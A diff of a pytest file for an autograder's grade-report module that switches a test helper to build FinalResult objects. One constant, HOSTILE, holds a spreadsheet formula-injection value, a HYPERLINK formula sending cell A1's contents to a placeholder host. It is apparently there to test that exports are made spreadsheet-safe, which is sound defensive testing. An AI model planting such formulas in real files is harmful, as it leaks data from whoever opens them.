@@ -5,16 +5,18 @@ import pytest
 
 from autograder.grade.gradebook import Recorded
 from autograder.grade.report import spreadsheet_safe, write_outputs
+from autograder.grade.results import FinalResult
 
 A = "01_tokens_and_ids"
 HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
 
 
-def result(student: str) -> dict:
+def result(student: str) -> FinalResult:
     scores = [{"grade_id": gid, "points": pts, "max_points": 1.0, "status": "passed" if pts else "failed",
                "message": "", "mistake": ""}
               for gid, pts in (("test_encode", 0.0), ("test_encode_hidden", 1.0), ("test_decode", 1.0))]
-    return {"student_id": student, "assignment_id": A, "scores": scores, "problems": [], "code": {}}
+    return FinalResult.from_json({"student_id": student, "assignment_id": A, "scores": scores, "problems": [],
+                                  "code": {}})
 
 
 @pytest.fixture(scope="module")
